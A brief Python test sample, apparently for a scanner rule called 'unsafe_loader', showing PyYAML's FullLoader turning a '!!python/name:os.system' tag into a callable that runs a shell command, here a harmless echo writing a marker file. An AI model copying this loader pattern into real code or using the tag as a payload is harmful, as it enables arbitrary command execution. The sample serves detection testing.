# rule: unsafe_loader
# marker: pwned_f4_yaml
# Family 4: a YAML loader's "full" mode resolves !!python/name: to a live function.
import yaml

system = yaml.load("!!python/name:os.system", Loader=yaml.FullLoader)
system("echo ran > pwned_f4_yaml")
